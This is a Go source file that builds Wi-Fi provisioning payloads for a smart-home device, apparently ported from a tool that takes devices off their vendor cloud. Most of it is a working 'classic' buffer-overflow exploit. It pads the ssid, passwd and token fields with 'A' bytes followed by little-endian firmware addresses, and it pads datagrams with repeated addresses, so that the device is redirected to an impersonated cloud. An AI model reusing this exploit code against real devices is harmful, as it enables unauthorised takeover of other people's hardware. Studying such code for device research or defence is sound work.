package apcfg

import (
	"bytes"
	"fmt"
	"strconv"
)

// field is one key/value pair of an ApCfg payload. Order matters: the
// device's JSON parser is lenient but the reference datagrams this was
// ported from always present fields in a fixed order, so a plain slice
// is used instead of a map.
type field struct {
	Key   string
	Value any
}

// encodePayload renders fields as a compact, unescaped
// `{"k":v,"k2":v2}` object. This deliberately isn't encoding/json:
// byte-string values are written out raw (no escaping, no UTF-8
// validation) because several of them are truncated little-endian
// integers, not text.
func encodePayload(fields []field) ([]byte, error) {
	var buf bytes.Buffer
	buf.WriteByte('{')
	for i, f := range fields {
		if i > 0 {
			buf.WriteByte(',')
		}
		buf.WriteByte('"')
		buf.WriteString(f.Key)
		buf.WriteString(`":`)
		switch v := f.Value.(type) {
		case []byte:
			buf.WriteByte('"')
			buf.Write(v)
			buf.WriteByte('"')
		case string:
			buf.WriteByte('"')
			buf.WriteString(v)
			buf.WriteByte('"')
		case bool:
			if v {
				buf.WriteString("true")
			} else {
				buf.WriteString("false")
			}
		case int:
			buf.WriteString(strconv.Itoa(v))
		default:
			return nil, fmt.Errorf("apcfg: cannot encode payload value of type %T", v)
		}
	}
	buf.WriteByte('}')
	return buf.Bytes(), nil
}

// WifiNetworkPayload builds the benign credential-handoff payload: the
// SSID/password to join plus an opaque token, matching set_wifi_network
// / set_ssid_password.
func WifiNetworkPayload(ssid, password string, token []byte) ([]byte, error) {
	if token == nil {
		token = []byte("1")
	}
	return encodePayload([]field{
		{"ssid", ssid},
		{"passwd", password},
		{"token", token},
	})
}

// ClassicProfileParams is the set of little-endian firmware addresses
// the classic exploit profile is built against, each as a "0x..."-or-
// decimal string the way they show up in a device's vulnerability
// definition.
type ClassicProfileParams struct {
	AddressFinish       string
	AddressSSID         string
	AddressPasswd       string
	AddressDatagram     string
	AddressSSIDPadding  int
}

func leAddress(hexOrDec string, length int) ([]byte, error) {
	if hexOrDec == "" {
		hexOrDec = "0"
	}
	v, err := strconv.ParseUint(hexOrDec, 0, 64)
	if err != nil {
		return nil, fmt.Errorf("apcfg: parse address %q: %w", hexOrDec, err)
	}
	out := make([]byte, length)
	for i := 0; i < length; i++ {
		out[i] = byte(v >> (8 * i))
	}
	return out, nil
}

func rstripNull(b []byte) []byte {
	i := len(b)
	for i > 0 && b[i-1] == 0 {
		i--
	}
	return b[:i]
}

// ClassicProfilePayload builds the crafted payload and optional raw
// datagram padding used by the "classic" exploit: a profile that
// points the device's firmware at our impersonated cloud by
// overwriting fixed in-memory fields via the length of the ssid/passwd/
// token strings the stock firmware copies unbounded.
func ClassicProfilePayload(p ClassicProfileParams, uuid, authKey, psk string) (payload []byte, addressDatagram []byte, err error) {
	addressFinish, err := leAddress(p.AddressFinish, 3)
	if err != nil {
		return nil, nil, err
	}
	addressFinish = rstripNull(addressFinish)

	addressSSID, err := leAddress(p.AddressSSID, 3)
	if err != nil {
		return nil, nil, err
	}
	addressSSID = rstripNull(addressSSID)

	addressPasswd, err := leAddress(p.AddressPasswd, 3)
	if err != nil {
		return nil, nil, err
	}
	addressPasswd = rstripNull(addressPasswd)

	addressDatagram, err = leAddress(p.AddressDatagram, 4)
	if err != nil {
		return nil, nil, err
	}

	token := append(bytes.Repeat([]byte("A"), 72), addressFinish...)

	fields := []field{
		{"auzkey", authKey},
		{"uuid", uuid},
		{"pskKey", psk},
		{"prod_test", false},
		{"ap_ssid", "A"},
		{"ssid", "A"},
		{"token", token},
	}

	if len(addressSSID) > 0 {
		padding := p.AddressSSIDPadding
		if padding == 0 {
			padding = 4
		}
		ssid := append(bytes.Repeat([]byte("A"), padding), addressSSID...)
		fields[5] = field{"ssid", ssid}
	}
	if len(addressPasswd) > 0 {
		fields = append(fields, field{"passwd", addressPasswd})
	}

	encoded, err := encodePayload(fields)
	if err != nil {
		return nil, nil, err
	}
	return encoded, addressDatagram, nil
}

// PadDatagram right-pads an already-packed frame to 256 bytes by
// appending "A" filler followed by repeats of addressDatagram, used
// only by the classic exploit path (address_datagram set).
func PadDatagram(datagram, addressDatagram []byte) []byte {
	if len(datagram) >= 256 || len(addressDatagram) == 0 {
		return datagram
	}
	padLen := 256 - len(datagram)
	out := make([]byte, 0, 256)
	out = append(out, datagram...)
	out = append(out, bytes.Repeat([]byte("A"), padLen%4)...)
	out = append(out, bytes.Repeat(addressDatagram, padLen/4)...)
	return out
}
